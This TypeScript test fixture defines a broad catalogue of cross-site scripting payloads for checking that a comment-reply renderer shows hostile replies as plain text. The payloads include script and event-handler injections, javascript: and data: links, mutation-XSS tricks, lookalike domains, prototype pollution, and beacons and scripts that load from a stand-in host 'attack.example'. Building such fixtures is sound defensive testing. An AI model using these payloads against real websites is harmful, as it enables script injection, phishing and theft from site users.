/** Host of all attacks that use the network. A request to this host proves that an attack ran. */
export const attackHost = 'attack.example';

/** Global variable in which a script attack stores its own name. */
export const attackVariable = 'taken';

/** A reply that does harm if a page uses its text or author as HTML, a link or a picture. */
export interface ReplyAttack {
  name: string;
  /** Text that is used for `textDisplay`, `textOriginal` and `authorDisplayName`. */
  markup: string;
  /** Other hostile fields of the reply's row. */
  fields?: Record<string, unknown>;
}

const attackUrl = `https://${attackHost}`;
/** Without `void`, a `javascript:` link would replace the page with the value of its script. */
const run = (name: string) => `void(${attackVariable}='${name}')`;

/** Attacks in the reply's text, by name: scripts, event handlers, links, frames, styles, forms and others. */
const scripts: Record<string, (js: string, name: string) => string> = {
  script: (js) => `<script>${js}</script>`,
  'script-from-elsewhere': (_, name) => `<script src="${attackUrl}/${name}.js"></script>`,
  'script-in-capitals': (js) => `<ScRiPt >${js}</sCrIpT >`,
  'script-within-script': (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  'script-unclosed': (js) => `<script>${js}//`,
  'script-after-break': (js) => `Thanks<br><script\n>${js}</script\n>`,
  'script-module': (_, name) => `<script type="module">import '${attackUrl}/${name}.js'</script>`,
  'script-null-letter': (js) => `<scr\u0000ipt>${js}</scr\u0000ipt>`,
  'picture-error': (js) => `<img src=x onerror="${js}">`,
  'picture-error-unquoted': (js) => `<img/src="x"/onerror=${js}>`,
  'picture-error-backtick': (js) => `<img src=\`x\` onerror=\`${js}\`>`,
  'picture-misspelt': (js) => `<image src=x onerror="${js}">`,
  'picture-beacon': (_, name) => `<img src="${attackUrl}/${name}.png" width=1 height=1>`,
  'picture-srcset': (_, name) => `<img srcset="${attackUrl}/${name}.png 1x, ${attackUrl}/${name}2.png 2x">`,
  'picture-source-set': (_, name) => `<picture><source srcset="${attackUrl}/${name}.webp"><img alt=""></picture>`,
  'picture-lazy': (js) => `<img loading=lazy src=x onload="${js}" onerror="${js}">`,
  'svg-load': (js) => `<svg onload="${js}"></svg>`,
  'svg-slash': (js) => `<svg/onload=${js}>`,
  'svg-script': (js) => `<svg><script>${js}</script></svg>`,
  'svg-script-reference': (js) =>
    `<svg><script>${[...js].map((sign) => `&#${sign.codePointAt(0)};`).join('')}</script></svg>`,
  'svg-animate': (js) =>
    `<svg><a><animate attributeName=href values="javascript:${js}"/><text y=20>press</text></a></svg>`,
  'svg-set': (js) => `<svg><set attributeName=onmouseover to="${js}" begin="0s"/></svg>`,
  'svg-use': () => `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSd0YWtlbj0xJy8+#x"/></svg>`,
  'svg-foreign': (js) => `<svg><foreignObject><body onload="${js}"><img src=x onerror="${js}"></foreignObject></svg>`,
  'math-link': (js) => `<math><mtext><a href="javascript:${js}">press</a></mtext></math>`,
  'math-action': (js) => `<math><maction actiontype="statusline" xlink:href="javascript:${js}">press</maction></math>`,
  'link-javascript': (js) => `<a href="javascript:${js}">press</a>`,
  'link-javascript-spaces': (js) => `<a href=" \u0001javascript:${js}">press</a>`,
  'link-javascript-tab': (js) => `<a href="java\tscript:${js}">press</a>`,
  'link-javascript-break': (js) => `<a href="java&NewLine;script&colon;${js}">press</a>`,
  'link-javascript-references': (js) => `<a href="&#106;&#x61;&#0000118ascript:${js}">press</a>`,
  'link-javascript-capitals': (js) => `<a href="JaVaScRiPt:${js}">press</a>`,
  'link-javascript-comment': (js) => `<a href="javascript://www.youtube.com/%0A${js}">press</a>`,
  'link-data': (js) => `<a href="data:text/html,<script>${js}</script>">press</a>`,
  'link-data-base64': () => `<a href="data:text/html;base64,PHNjcmlwdD50YWtlbj0xPC9zY3JpcHQ+">press</a>`,
  'link-vbscript': (js) => `<a href="vbscript:${js}">press</a>`,
  'link-blob': (_, name) => `<a href="blob:${attackUrl}/${name}">press</a>`,
  'link-file': () => `<a href="file:///etc/passwd">press</a>`,
  'link-extension': () => `<a href="chrome-extension://invalid/options.html">press</a>`,
  'link-of-the-browser': () => `<a href="chrome://settings/">press</a> <a href="view-source:about:blank">and this</a>`,
  'link-handler': (js) =>
    `<a href="${attackUrl}/" onclick="${js}" onmouseover="${js}" onfocus="${js}" autofocus tabindex=1>press</a>`,
  'link-ping': (_, name) => `<a href="#" ping="${attackUrl}/${name}" target="_blank" rel="opener">press</a>`,
  'link-download': (_, name) => `<a href="${attackUrl}/${name}.exe" download="notes.txt.exe">press</a>`,
  'link-with-name': () => `<a href="https://www.youtube.com@${attackHost}/">www.youtube.com</a>`,
  'link-lookalike': () => `<a href="https://www.уoutube.com/">www.youtube.com</a>`,
  frame: (js) => `<iframe src="javascript:${js}"></iframe>`,
  'frame-document': (js, name) =>
    `<iframe srcdoc="<script>parent.${attackVariable}='${name}';${js}</script>"></iframe>`,
  'frame-elsewhere': (_, name) =>
    `<iframe src="${attackUrl}/${name}"></iframe><frameset><frame src="${attackUrl}/${name}"></frameset>`,
  object: (js) => `<object data="javascript:${js}"></object><embed src="javascript:${js}">`,
  'object-elsewhere': (_, name) => `<object data="${attackUrl}/${name}"></object><embed src="${attackUrl}/${name}">`,
  style: (_, name) => `<style>@import '${attackUrl}/${name}.css'; * { display: none !important }</style>`,
  'style-attribute': (_, name) =>
    `<p style="position:fixed;inset:0;z-index:9999;background:url(${attackUrl}/${name}.png)">You are signed out</p>`,
  'style-sheet': (_, name) =>
    `<link rel=stylesheet href="${attackUrl}/${name}.css"><link rel=prefetch href="${attackUrl}/${name}2">`,
  base: () => `<base href="${attackUrl}/">`,
  'meta-refresh': (_, name) => `<meta http-equiv="refresh" content="0;url=${attackUrl}/${name}">`,
  'meta-policy': () =>
    `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline' *">`,
  form: (_, name) =>
    `<form action="${attackUrl}/${name}"><input name=token autofocus onfocus="${run(name)}"><button>Sign in again</button></form>`,
  'form-action': (js) => `<button form=x formaction="javascript:${js}">press</button><form id=x></form>`,
  'form-names': () =>
    `<form id=document name=body><input name=parentNode><input id=innerHTML></form><img name=getElementById>`,
  'body-load': (js) => `<body onload="${js}" onpageshow="${js}">`,
  'details-toggle': (js) => `<details open ontoggle="${js}"><summary>more</summary></details>`,
  'video-error': (js) =>
    `<video src=x onerror="${js}"></video><audio src=x onerror="${js}"></audio><video><source onerror="${js}"></video>`,
  'video-poster': (_, name) => `<video poster="${attackUrl}/${name}.png"></video>`,
  marquee: (js) => `<marquee onstart="${js}">moving</marquee><input type=image src=x onerror="${js}">`,
  animation: (js) =>
    `<xss style="animation:spin 1s" onanimationstart="${js}" contenteditable autofocus onfocus="${js}">x</xss>`,
  'popover-toggle': (js) => `<button popovertarget=p>press</button><div popover id=p onbeforetoggle="${js}">x</div>`,
  template: (js) =>
    `<template><img src=x onerror="${js}"></template><div><template shadowrootmode=open><script>${js}</script></template></div>`,
  noscript: (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  'mutation-title': (js) => `<title><a title="</title><img src=x onerror=${js}>">`,
  'mutation-math': (js) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  'mutation-svg': (js) => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  'mutation-table': (js) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  'mutation-comment': (js) => `<!--><img src=x onerror=${js}>--><!-- --!><img src=x onerror=${js}> -->`,
  'mutation-textarea': (js) =>
    `<textarea><p title="</textarea><img src=x onerror=${js}>"></textarea><xmp><p title="</xmp><svg/onload=${js}>">`,
  'mutation-cdata': (js) => `<svg><![CDATA[><img src=x onerror=${js}>]]></svg>`,
  'mutation-deep': (js) => `${'<div>'.repeat(600)}<svg/onload=${js}>`,
  'references-once': (js) => `&lt;img src=x onerror=${js}&gt;`,
  'references-twice': (js) => `&amp;lt;img src=x onerror=${js}&amp;gt;`,
  'references-unclosed': (js) => `&lt&#x69mg src=x onerror=${js}&gt`,
  'letters-wide': (js) => `\uFF1Cscript\uFF1E${js}\uFF1C/script\uFF1E`,
  'letters-turned': (js) => `\u202E<script>${js}</script>\u202C \u2066<img src=x onerror=${js}>\u2069`,
  'letters-invisible': (js) => `<\u200Bimg src=x onerror=${js}><img\u00A0src=x onerror=${js}>`,
  'letters-halved': (js) => `\uD800<img src=x onerror=${js}>\uDC00`,
  'template-words': (js) => `{{constructor.constructor("${js}")()}} \u0024{${js}} <%= ${js} %> [[${js}]]`,
  'attribute-break': (js) => `" onmouseover="${js}" x="' onfocus='${js}' autofocus='`,
  'import-map': (_, name) => `<script type=importmap>{"imports":{"react":"${attackUrl}/${name}.js"}}</script>`,
  prototype: () => `__proto__ constructor {"__proto__":{"${attackVariable}":"prototype"}}`,
};

/** Attacks in the fields of the author and the reply; the reply's text is harmless. */
const rows: Record<string, (js: string, name: string) => Record<string, unknown>> = {
  'author-address-javascript': (js) => ({ authorChannelUrl: `javascript:${js}` }),
  'author-address-data': (js) => ({ authorChannelUrl: `data:text/html,<script>${js}</script>` }),
  'author-address-elsewhere': (_, name) => ({ authorChannelUrl: `https://www.youtube.com.${attackHost}/${name}` }),
  'author-address-broken': (js) => ({ authorChannelUrl: `https://www.youtube.com/"><img src=x onerror=${js}>` }),
  'author-picture-beacon': (_, name) => ({ authorProfileImageUrl: `${attackUrl}/${name}.png` }),
  'author-picture-break': (js) => ({ authorProfileImageUrl: `x" onerror="${js}` }),
  'author-picture-svg': (js) => ({ authorProfileImageUrl: `data:image/svg+xml,<svg onload="${js}"/>` }),
  'author-id': (js) => ({
    authorChannelId: { value: `"><script>${js}</script>` },
    channelId: `<img src=x onerror=${js}>`,
  }),
  'author-id-prototype': () => ({
    authorChannelId: JSON.parse(`{"__proto__":{"${attackVariable}":"x"},"value":"__proto__"}`),
  }),
  'reply-id': (js) => ({ id: `"><img src=x onerror=${js}>`, parentId: `javascript:${js}` }),
  'reply-rating': (js) => ({ viewerRating: `<svg/onload=${js}>` }),
  'reply-date': (js) => ({ publishedAt: `<svg/onload=${js}>`, updatedAt: `javascript:${js}` }),
};

/** All attacks. None must run or load anything, and each must be shown as plain text. */
export const replyAttacks: readonly ReplyAttack[] = [
  ...Object.entries(scripts).map(([name, make]) => ({ name, markup: make(run(name), name) })),
  ...Object.entries(rows).map(([name, make]) => ({
    name,
    markup: `A reply with ${name}`,
    fields: make(run(name), name),
  })),
];
